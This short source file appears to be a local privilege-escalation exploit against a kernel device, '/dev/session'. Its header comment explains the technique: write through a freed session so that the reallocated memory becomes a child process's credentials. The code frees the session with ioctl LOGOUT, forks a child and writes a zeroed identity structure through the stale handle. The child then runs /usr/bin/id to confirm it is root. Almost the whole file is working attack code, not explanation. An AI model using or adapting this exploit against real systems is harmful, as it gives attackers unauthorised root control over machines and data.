// SPDX-License-Identifier: GPL-2.0-or-later
/**
 * Writes through a session that has been freed. With `kasan=off` its memory is handed out again at
 * once, and here to the credentials of a child, which becomes root.
 */
import { calloc, close, execv, fork, geteuid, ioctl, O_RDWR, open } from "libc";
import { perror, pipe, printf, pwrite, read, store32, wait, WEXITSTATUS } from "libc";

import { LOGOUT } from "./session";

/** A reference count, and uid, gid, suid, sgid, euid, egid, fsuid, fsgid. */
const IDENTITY_SIZE = 8 + 8 * 4;

/** Waits until all is written, and looks who it is. */
function look(fds: readonly number[]): number {
  close(fds[1]);
  read(fds[0], calloc(1, 1), 1);
  if (geteuid() !== 0) return 1;
  execv("/usr/bin/id", ["id"]);
  return 1;
}

export function main(): number {
  const fds = [0, 0];
  const one = open("/dev/session", O_RDWR);
  const other = open("/dev/session", O_RDWR);
  if (one < 0 || other < 0 || pipe(fds) < 0) {
    perror("/dev/session");
    return 1;
  }
  ioctl(one, LOGOUT);
  if (fork(look, fds) < 0) perror("fork");

  const identity = calloc(1, IDENTITY_SIZE);
  store32(identity, 1);
  if (pwrite(other, identity, IDENTITY_SIZE, 0) < 0) perror("write");
  close(fds[0]);
  close(fds[1]);

  const status = [0];
  wait(status);
  const isRoot = WEXITSTATUS(status[0]) === 0;
  printf("the child %s root\n", isRoot ? "became" : "did not become");
  return isRoot ? 0 : 1;
}
